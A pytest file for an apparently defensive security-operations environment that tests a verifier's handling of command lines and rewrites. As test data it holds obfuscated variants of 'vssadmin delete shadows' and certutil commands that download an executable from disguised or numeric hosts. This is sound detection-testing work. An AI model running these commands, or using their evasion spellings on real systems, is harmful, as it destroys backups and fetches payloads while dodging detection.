"""Soundness by construction: honest play is always admitted, and what the verifier cannot read is refused.

- every incident the generator writes (each stage, the frozen hold-outs, the investigation stores) is admitted, and
  the SigmaHQ community rules contest almost none of them;
- the verdict on an admitted incident rests only on values the software catalog knows: every invocation has a
  catalog use, and a program, cmdlet or .NET method the catalog lacks makes the incident refused, never benign;
- semantics-preserving rewrites (``audit.rewrites``: interpreter syntax, environment variables, call operators,
  encodings, URL and path spellings, case, quoting) keep the verdict or are refused: never a paid flip;
- the SigmaHQ corpus (one real-attack event per community rule, written from the rule alone) played as one-event
  crafts is never paid as benign.
"""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from opensoc.adjudication.admission import check_plausibility
from opensoc.adjudication.gate import adjudicate
from opensoc.audit.rewrites import REWRITES, judge_rewrite, rewrite_incident, sweep
from opensoc.families.investigation.case import build_case
from opensoc.families.investigation.tasks import INVESTIGATION_TASKS
from opensoc.generator import generate
from opensoc.parsing.commandline import parse_command_line
from opensoc.schema import IncidentParams
from opensoc.tasks.frozen import load_holdout, load_investigation_holdout
from opensoc.verifier import Window
from opensoc.world.catalog import BUILTINS, CMDLETS, METHODS, judge, program_for

pytestmark = pytest.mark.slow  # about 30 s in all: each test sweeps hundreds of incidents or the SigmaHQ corpus

STAGES = ("stage1_basic", "stage2_multi", "stage3_mixed", "stage4_adversarial")
SEEDS = range(150)


@pytest.fixture(scope="module")
def generated() -> list[tuple[str, int, IncidentParams]]:
    return [(task, seed, generate(task, seed)) for task in STAGES for seed in SEEDS]


def test_every_generated_incident_is_admitted(generated):
    refused = [(t, s, [v.code for v in r.plausibility.violations]) for t, s, p in generated
               if not (r := adjudicate(p)).plausibility.ok]
    assert not refused
    mislabelled = [(t, s) for t, s, p in generated if adjudicate(p).truth.action != p.target_label]
    assert not mislabelled


def test_honest_incidents_are_almost_never_contested(generated):
    """With the SigmaHQ rules loaded (when the snapshot is present), at most 1 in 200 honest incidents is contested."""
    contested = [(t, s, [h.title for h in r.contested_by]) for t, s, p in generated if (r := adjudicate(p)).contested_by]
    assert len(contested) <= len(generated) / 200, contested


def test_frozen_holdouts_are_admitted():
    rows = load_holdout()
    bad = [(r["task"], r["seed"]) for r in rows[::4] if not adjudicate(generate(r["task"], r["seed"])).sound]
    assert rows and not bad


@pytest.mark.parametrize("task", sorted(INVESTIGATION_TASKS))
def test_investigation_stores_are_admitted(task):
    """Every event of a case's store is read and explained. A store spans hours, so a process's parent may have
    started before it and its span may exceed one incident's: those two checks are for crafts, not stores."""
    seeds = sorted({r["seed"] for r in load_investigation_holdout() if r["task"] == task})[:2] + [0, 1]
    for seed in seeds:
        case = build_case(task, seed)
        whole = IncidentParams.model_construct(category=case.incident.category, target_label=case.incident.target_label,
                                               events=list(case.store.events), narrative="")
        codes = {v.code for v in check_plausibility(whole).violations}
        assert codes <= {"CAUSE_AFTER_EFFECT", "WINDOW_TOO_LONG", "CATEGORY_NOT_DEPICTED"}, (seed, codes)


# ------------------------------------------------------------------------------------------- the catalog's reach


def test_admitted_verdicts_read_only_catalog_values(generated):
    for _, _, params in generated[::3]:
        window = Window(params)
        for judged in window.judgments.values():
            for inv, judgment in judged:
                assert judgment.use is not None and judgment.problem is None, inv
                known = (program_for(inv.program) if inv.kind == "process" else
                         {"cmdlet": CMDLETS, "method": METHODS, "builtin": BUILTINS}[inv.kind].get(inv.program))
                assert known is not None or judgment.use.klass == "untrusted_executable", inv


_NAME = st.text("abcdefghijklmnopqrstuvwxyz", min_size=5, max_size=12)


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(task=st.sampled_from(STAGES), seed=st.integers(0, 10_000), name=_NAME,
       form=st.sampled_from(("{n}.exe", "C:\\Windows\\System32\\{n}.exe", "Invoke-{N}", "[System.IO.File]::{N}",
                             "& '{n}.exe'", "cmd /c {n}.exe")))
def test_a_name_the_catalog_lacks_is_refused(task, seed, name, form):
    """An unknown program, cmdlet or method put where a command runs is refused, whatever the rest says."""
    params = generate(task, seed)
    data = params.model_dump(mode="json", exclude_none=True)
    processes = [e for e in data["events"] if e["event_type"] == "process_start"]
    if not processes:
        return
    event = processes[seed % len(processes)]
    spelled = form.format(n=name, N=name.capitalize() + "Thing")
    if form.startswith(("Invoke", "[", "&")):
        call = f"{spelled}()" if form.startswith("[") else spelled
        event.update({"process.name": "powershell.exe", "process.command_line": f'powershell.exe -c "{call}"',
                      "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"})
    elif form.startswith("cmd"):
        event.update({"process.name": "cmd.exe", "process.command_line": f"cmd.exe /c {spelled}",
                      "process.executable": "C:\\Windows\\System32\\cmd.exe"})
    else:
        event.update({"process.name": f"{name}.exe", "process.command_line": spelled,
                      "process.executable": f"C:\\Windows\\System32\\{name}.exe"})
    event.pop("process.pe.original_file_name", None)
    result = adjudicate(IncidentParams.model_validate(data))
    codes = {v.code for v in result.plausibility.violations}
    assert not result.plausibility.ok and codes & {"UNKNOWN_PROGRAM", "UNMODELLED_VALUE"}, codes


def test_interpreter_forms_reach_the_program_they_run():
    """cmd.exe and PowerShell syntax resolves to the commands that run, with the host's environment expanded."""
    cases = {
        "cmd.exe /c if 1==1 vssadmin delete shadows /all": "vssadmin.exe",
        'cmd.exe /c for /f %i in ("x") do vssadmin delete shadows': "vssadmin.exe",
        "cmd.exe /c %COMSPEC% /c v^ss^admin delete shadows": "vssadmin.exe",
        "cmd.exe /c ,;, call %SystemRoot%\\System32\\vssadmin.exe delete shadows": "vssadmin.exe",
        "powershell.exe -c \"& ('vss'+'admin') delete shadows\"": "vssadmin.exe",
        "powershell.exe -c \"&'vssadmin.exe' delete shadows\"": "vssadmin.exe",
        'powershell.exe -c "& \\"$env:windir\\System32\\vssadmin.exe\\" delete shadows"': "vssadmin.exe",
        "powershell.exe -c \"iex 'vssadmin delete shadows'\"": "vssadmin.exe",
        "powershell.exe -c \"v`ssadmin delete shadows\"": "vssadmin.exe",
        "conhost.exe --headless cmd.exe /c vssadmin delete shadows": "vssadmin.exe",
        "schtasks.exe /create /tn x /tr \"vssadmin delete shadows\" /sc once /st 00:00": "vssadmin.exe",
    }
    for line, program in cases.items():
        parsed = parse_command_line(line, line.split()[0])
        assert program in parsed.programs and not parsed.unresolved, (line, parsed)
        use = [judge(i, _ctx()).use for i in parsed.invocations if i.program == program][0]
        assert use is not None and use.klass == "recovery_inhibition", line


def _ctx():
    from opensoc.world.catalog import Context

    return Context(user="alice.chen", host_role="workstation", parent="explorer.exe")


# ------------------------------------------------------------------------------------------- rewrites


@settings(max_examples=300, deadline=None)
@given(task=st.sampled_from(STAGES), seed=st.integers(0, 100_000), family=st.sampled_from(sorted(REWRITES)),
       draw=st.integers(0, 2**32 - 1), aimed=st.booleans())
def test_a_rewrite_keeps_the_verdict_or_is_refused(task, seed, family, draw, aimed):
    params = generate(task, seed)
    truth = adjudicate(params).truth
    data = params.model_dump(mode="json", exclude_none=True)
    aim = {i for f in truth.rules_fired for i in f.log_ids} if aimed else None
    rewritten = rewrite_incident(data, family, random.Random(draw), log_ids=aim or None)
    if rewritten is None:
        return
    outcome, detail = judge_rewrite(truth.action, rewritten)
    assert outcome != "flipped", (family, truth.action, detail, rewritten)


def test_every_rewrite_family_rewrites_something_and_never_flips():
    results = sweep(STAGES, range(25), tries=1)
    for family, result in results.items():
        assert result.total > 0, family
        assert not result.flipped, (family, result.flipped)
        assert result.kept > 0, family  # the verifier reads the rewrite, not merely refuses it


@pytest.mark.parametrize("line", [
    "certutil.exe -urlcache -f https://login.microsoftonline.com@198.51.100.7/a.exe C:\\Users\\Public\\a.exe",
    "certutil.exe -urlcache -f http://3325256711/a.exe C:\\Users\\Public\\a.exe",
    "certutil.exe -urlcache -f http://0xC6336407/a.exe C:\\Users\\Public\\a.exe",
])
def test_url_userinfo_and_numeric_hosts_name_the_real_host(line):
    parsed = parse_command_line(line, "certutil.exe")
    use = judge(parsed.invocations[0], _ctx()).use
    assert use is not None and use.klass == "download", line


def test_unknown_dns_label_lengths_and_address_families_are_refused(incident):
    data = incident("dns_tunnel")
    data["events"][0]["dns.question.name"] = "a" * 70 + ".example.org"
    assert "INVALID_NAME" in {v.code for v in adjudicate(IncidentParams.model_validate(data)).plausibility.violations}


def test_sigma_corpus_is_never_paid_as_benign():
    """One event per SigmaHQ rule, written from the rule alone (outside this project's parsing): as a one-event
    craft claimed benign, each is refused, contested or judged malicious; none is paid as ``dismiss``."""
    from opensoc.adjudication.sigmahq import load_rules, rules_path
    from opensoc.audit.rewrites import judge_corpus_event
    from opensoc.audit.sigma_corpus import build_corpus

    path = rules_path()
    if path is None:
        pytest.skip("the SigmaHQ rules snapshot is not present")
    corpus = build_corpus(load_rules(path))
    paid = []
    for item in corpus.items:
        refusal, verdict = judge_corpus_event(item.event)
        if refusal is None and verdict == "dismiss":
            paid.append(item.title)
    assert len(corpus.items) > 1000 and not paid


def test_refusal_messages_name_the_value():
    candidates = (generate("stage1_basic", seed).model_dump(mode="json", exclude_none=True) for seed in range(50))
    data = next(d for d in candidates if any(e["event_type"] == "process_start" for e in d["events"]))
    event = next(e for e in data["events"] if e["event_type"] == "process_start")
    event.update({"process.name": "cmd.exe", "process.executable": "C:\\Windows\\System32\\cmd.exe",
                  "process.command_line": "cmd.exe /c zzqx.exe --go"})
    event.pop("process.pe.original_file_name", None)
    violations = adjudicate(IncidentParams.model_validate(data)).plausibility.violations
    assert any(re.search(r"zzqx\.exe", v.message) for v in violations), violations
